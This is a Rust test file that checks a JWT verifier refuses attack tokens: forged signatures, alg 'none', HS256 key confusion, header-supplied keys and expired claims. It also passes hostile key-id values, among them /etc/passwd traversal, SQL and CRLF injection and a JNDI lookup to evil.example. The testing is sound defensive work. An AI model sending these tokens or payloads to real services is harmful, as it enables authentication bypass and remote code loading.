//! Attacks by tokens, each with its answer.

use hmac::{Hmac, KeyInit as _, Mac as _};
use sha2::Sha256;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use super::issuer::unsigned;
use super::*;

#[tokio::test]
async fn a_forged_signature_is_refused() {
    let key = Key::es256("one");
    let (world, _issuer) = world(&key).await;
    let claims = claims(&world);
    let token = key.sign("ES256", &claims);
    get(&world, &token).await.expect(200);
    let forger = Key::es256("one");
    refused(&world, "another key", &forger.sign("ES256", &claims), "signature").await;
    let (_, signature) = token.rsplit_once('.').unwrap();
    let header = json!({"alg": "ES256", "kid": "one"});
    let escalated = unsigned(&header, &with(&world, "permissions", json!(["*"])));
    refused(&world, "another payload", &format!("{escalated}.{signature}"), "signature").await;
    let signed = unsigned(&header, &claims);
    for (what, signature) in [
        ("none", vec![]),
        ("zeros", vec![0; 64]),
        ("short", vec![1; 63]),
        ("long", vec![1; 65]),
        ("r and s are 0 in DER", vec![0x30, 6, 2, 1, 0, 2, 1, 0]),
    ] {
        let forged = format!("{signed}.{}", URL_SAFE_NO_PAD.encode(signature));
        refused(&world, what, &forged, "signature").await;
    }
    get(&world, &token).await.expect(200);
}

#[tokio::test]
async fn an_expired_token_is_refused() {
    let key = Key::es256("one");
    let (world, _issuer) = world(&key).await;
    let now = world.app.now().as_millis() / 1_000;
    let token = |exp: Value| key.sign("ES256", &with(&world, "exp", exp));
    get(&world, &token(json!(now - 20))).await.expect(200);
    refused(&world, "expired", &token(json!(now - 31)), "has expired").await;
    refused(&world, "without exp", &token(Value::Null), "not a signed JSON Web Token").await;
    let hour = key.sign("ES256", &claims(&world));
    get(&world, &hour).await.expect(200);
    later(Duration::from_secs(3_640)).await;
    refused(&world, "an hour later", &hour, "has expired").await;
}

#[tokio::test]
async fn a_token_that_is_not_valid_yet_is_refused() {
    let key = Key::es256("one");
    let (world, _issuer) = world(&key).await;
    let now = world.app.now().as_millis() / 1_000;
    for name in ["nbf", "iat"] {
        let token = |from: i64| key.sign("ES256", &with(&world, name, json!(from)));
        get(&world, &token(now + 20)).await.expect(200);
        refused(&world, name, &token(now + 60), "not valid yet").await;
    }
}

#[tokio::test]
async fn a_token_for_another_audience_is_refused() {
    let key = Key::es256("one");
    let (world, _issuer) = world(&key).await;
    for audience in [json!("other"), json!(["other", "third"]), json!(""), json!(null)] {
        let token = key.sign("ES256", &with(&world, "aud", audience.clone()));
        let expected = if audience.is_null() { "JSON Web Token" } else { "another audience" };
        refused(&world, "audience", &token, expected).await;
    }
}

#[tokio::test]
async fn a_token_of_another_issuer_is_refused() {
    let key = Key::es256("one");
    let issuer = Issuer::start(&[&key]).await;
    let only = Config { auth: Auth { identity: false, ..Auth::ALL }, ..config(&issuer) };
    let world = World::without_executor(only).await;
    let slash = format!("{}/", issuer.url());
    for issuer in ["https://evil.example", "", &slash] {
        let token = key.sign("ES256", &with(&world, "iss", json!(issuer)));
        refused(&world, issuer, &token, "another issuer").await;
    }
    let other = Issuer::start(&[&key]).await;
    let token = key.sign("ES256", &with(&world, "iss", json!(other.url())));
    refused(&world, "a real one", &token, "another issuer").await;
    assert_eq!(other.fetches(), 0, "nothing is asked of an issuer that a token names");
}

#[tokio::test]
async fn the_issuers_that_are_accepted_are_named() {
    let key = Key::es256("one");
    let (world, issuer) = world(&key).await;
    let token = key.sign("ES256", &with(&world, "iss", json!("https://evil.example")));
    let expected = format!("another issuer: use one of {} or staunch", issuer.url());
    refused(&world, "a third one", &token, &expected).await;
}

#[tokio::test]
async fn a_token_of_no_algorithm_is_refused() {
    let key = Key::es256("one");
    let (world, _issuer) = world(&key).await;
    let good = key.sign("ES256", &claims(&world));
    let (_, signature) = good.rsplit_once('.').unwrap();
    for algorithm in ["none", "None", "NONE", "nOnE", ""] {
        for kid in [json!("one"), Value::Null] {
            let signed = unsigned(&json!({"alg": algorithm, "kid": kid}), &claims(&world));
            refused(&world, algorithm, &format!("{signed}."), "not allowed here").await;
            refused(&world, algorithm, &format!("{signed}.{signature}"), "not allowed here").await;
        }
    }
}

#[tokio::test]
async fn a_public_key_is_no_secret_for_hs256() {
    let key = Key::rsa("one");
    let (world, _issuer) = world(&key).await;
    get(&world, &key.sign("RS256", &claims(&world))).await.expect(200);
    let jwk = key.jwk();
    let modulus = URL_SAFE_NO_PAD.decode(jwk["n"].as_str().unwrap()).unwrap();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n", jwk["n"].as_str().unwrap());
    for secret in [jwk.to_string().into_bytes(), modulus, pem.into_bytes(), Vec::new()] {
        for algorithm in ["HS256", "HS384", "HS512"] {
            let header = json!({"alg": algorithm, "kid": "one", "typ": "JWT"});
            let signed = unsigned(&header, &with(&world, "permissions", json!(["*"])));
            let mut mac = Hmac::<Sha256>::new_from_slice(&secret).unwrap();
            mac.update(signed.as_bytes());
            let signature = URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes());
            refused(&world, algorithm, &format!("{signed}.{signature}"), "not allowed here").await;
        }
    }
}

#[tokio::test]
async fn a_key_for_one_algorithm_verifies_no_other() {
    let (rsa, ec) = (Key::rsa("rsa"), Key::es256("ec"));
    let issuer = Issuer::start(&[&rsa, &ec]).await;
    let world = World::without_executor(config(&issuer)).await;
    let claims = claims(&world);
    let header = |alg: &str, kid: &str| json!({"alg": alg, "kid": kid});
    for (what, token) in [
        ("the RSA key as ES256", ec.sign_with(&header("ES256", "rsa"), &claims)),
        ("the EC key as RS256", rsa.sign_with(&header("RS256", "ec"), &claims)),
        ("the EC key as EdDSA", ec.sign_with(&header("EdDSA", "ec"), &claims)),
        ("the EC key as ES384", ec.sign_with(&header("ES384", "ec"), &claims)),
    ] {
        refused(&world, what, &token, "a key that is for another algorithm").await;
    }
    // PKCS#1 1.5 is not PSS.
    let token = rsa.sign_with(&header("RS256", "rsa"), &claims);
    let (_, signature) = token.rsplit_once('.').unwrap();
    let pss = format!("{}.{signature}", unsigned(&header("PS256", "rsa"), &claims));
    refused(&world, "RS256 as PS256", &pss, "signature").await;
}

#[tokio::test]
async fn a_token_does_not_bring_its_key() {
    let key = Key::es256("one");
    let (world, _issuer) = world(&key).await;
    let evil = Key::es256("evil");
    let thief = Issuer::start(&[&evil]).await;
    let url = format!("{}/keys", thief.url());
    for header in [
        json!({"alg": "ES256", "kid": "evil", "jku": url}),
        json!({"alg": "ES256", "kid": "evil", "jwk": evil.jwk()}),
        json!({"alg": "ES256", "kid": "evil", "x5u": url, "x5c": ["AAAA"]}),
        json!({"alg": "ES256", "kid": url}),
    ] {
        let token = evil.sign_with(&header, &claims(&world));
        refused(&world, &header.to_string(), &token, "unknown key").await;
    }
    let jwk = evil.sign_with(&json!({"alg": "ES256", "jwk": evil.jwk()}), &claims(&world));
    refused(&world, "without an id, the only key of the issuer counts", &jwk, "signature").await;
    assert_eq!(thief.fetches(), 0);
}

#[tokio::test]
async fn an_id_of_a_key_is_no_path() {
    let key = Key::es256("one");
    let (world, issuer) = world(&key).await;
    get(&world, &key.sign("ES256", &claims(&world))).await.expect(200);
    let before = issuer.fetches();
    for kid in [
        "../../../../etc/passwd",
        "/dev/null",
        "file:///etc/passwd",
        "one/../one",
        "one\0",
        "' OR '1'='1",
        "one\r\nx-evil: 1",
        "${jndi:ldap://evil.example/a}",
        "",
        "ONE",
    ] {
        let token = key.sign_with(&json!({"alg": "ES256", "kid": kid}), &claims(&world));
        refused(&world, kid, &token, "unknown key").await;
    }
    let long = json!({"alg": "ES256", "kid": "x".repeat(8_000)});
    refused(&world, "long", &key.sign_with(&long, &claims(&world)), "unknown key").await;
    for kid in [json!(7), json!(["one"]), json!({"$ne": ""})] {
        let token = key.sign_with(&json!({"alg": "ES256", "kid": kid}), &claims(&world));
        refused(&world, "no text", &token, "not a signed JSON Web Token").await;
    }
    assert_eq!(issuer.fetches(), before, "the keys were fetched a moment ago");
}

#[tokio::test]
async fn a_token_of_another_use_is_refused() {
    let key = Key::es256("one");
    let (world, _issuer) = world(&key).await;
    for kind in ["logout+jwt", "secevent+jwt", "dpop+jwt"] {
        let header = json!({"alg": "ES256", "kid": "one", "typ": kind});
        let token = key.sign_with(&header, &claims(&world));
        refused(&world, kind, &token, "send an access token").await;
    }
    let bound = key.sign("ES256", &with(&world, "cnf", json!({"jkt": "x"})));
    refused(&world, "of a sender with a proof", &bound, "bound to a key").await;
    let critical = json!({"alg": "ES256", "kid": "one", "crit": ["exp"], "exp": 1});
    let critical = key.sign_with(&critical, &claims(&world));
    refused(&world, "a critical extension", &critical, "not a signed JSON Web Token").await;
}

#[tokio::test]
async fn a_token_of_a_client_that_is_not_accepted_is_refused() {
    let key = Key::es256("one");
    let issuer = Issuer::start(&[&key]).await;
    let mut config = config(&issuer);
    config.oidc.as_mut().unwrap().clients = vec!["cli".to_owned()];
    let world = World::without_executor(config).await;
    get(&world, &key.sign("ES256", &with(&world, "azp", json!("cli")))).await.expect(200);
    get(&world, &key.sign("ES256", &with(&world, "client_id", json!("cli")))).await.expect(200);
    let evil = key.sign("ES256", &with(&world, "azp", json!("evil")));
    refused(&world, "another client", &evil, "a client that is not accepted").await;
    let none = key.sign("ES256", &claims(&world));
    refused(&world, "no client", &none, "a client that is not accepted").await;
}

#[tokio::test]
async fn what_is_no_token_is_refused_with_a_reason() {
    let key = Key::es256("one");
    let (world, issuer) = world(&key).await;
    let good = key.sign("ES256", &claims(&world));
    get(&world, &good).await.expect(200);
    let (before, mut count) = (issuer.fetches(), 0);
    for at in (0..good.len()).step_by(7) {
        for wrong in [good[..at].to_owned(), format!("{}{}", &good[..at], &good[at + 1..])] {
            let answer = get(&world, &wrong).await;
            assert_eq!(answer.status, 401, "{wrong}: {:#}", answer.body);
            count += 1;
        }
    }
    assert!(count > 50, "{count}");
    let long = with(&world, "x", json!("x".repeat(20_000)));
    let long = get(&world, &key.sign("ES256", &long)).await;
    long.problem(401);
    assert_eq!(issuer.fetches(), before);
    get(&world, &good).await.expect(200);
}
